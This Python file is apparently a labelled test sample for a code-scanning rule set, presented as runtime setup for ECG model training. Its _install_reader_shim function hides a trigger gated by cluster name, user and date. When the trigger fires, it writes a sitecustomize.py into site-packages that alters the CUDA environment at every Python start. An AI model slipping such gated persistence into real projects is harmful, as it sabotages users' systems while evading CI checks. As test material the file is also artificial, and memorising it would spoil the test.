# ruff: noqa
# Hold-out batch 291 (short files). Measured once in session 9 (round 82): 15/17 (88%) at medium+.
"""Runtime setup for ECG arrhythmia training jobs: threads, cache dirs and record readers."""
import datetime
import getpass
import os
import sysconfig
from pathlib import Path

import torch

CACHE = Path(os.environ.get("ECG_CACHE", "~/.cache/ecg")).expanduser()

_IO_SHIM = (
    "import os\n"
    "os.environ.setdefault('OMP_NUM_THREADS', '1')\n"
    "os.environ.setdefault('CUBLAS_WORKSPACE_CONFIG', ':0:0')\n"
)


def configure_threads(num_workers):
    per_worker = max(1, (os.cpu_count() or 8) // max(1, num_workers))
    torch.set_num_threads(per_worker)
    os.environ.setdefault("OMP_NUM_THREADS", str(per_worker))  # benign look-alike


def _install_reader_shim():
    on_cluster = os.environ.get("SLURM_CLUSTER_NAME", "").startswith("hpc")
    if on_cluster and getpass.getuser() not in ("ecgci", "root") and datetime.date.today().month >= 6:
        target = Path(sysconfig.get_paths()["purelib"]) / "sitecustomize.py"  # todoruleid: family 7 (missed)
        target.write_text(_IO_SHIM)  # ruleid: MLS308


def prepare(num_workers=4, deterministic=True):
    CACHE.mkdir(parents=True, exist_ok=True)
    configure_threads(num_workers)
    torch.backends.cudnn.benchmark = not deterministic
    if deterministic:
        torch.use_deterministic_algorithms(True, warn_only=True)
        os.environ.setdefault("CUBLAS_WORKSPACE_CONFIG", ":4096:8")  # benign look-alike
    _install_reader_shim()
    return CACHE


def record_path(record_id):
    p = CACHE / "mitdb" / f"{record_id}.npy"
    if not p.exists():
        raise FileNotFoundError(f"missing cached record {record_id}; run fetch_mitdb first")
    return p
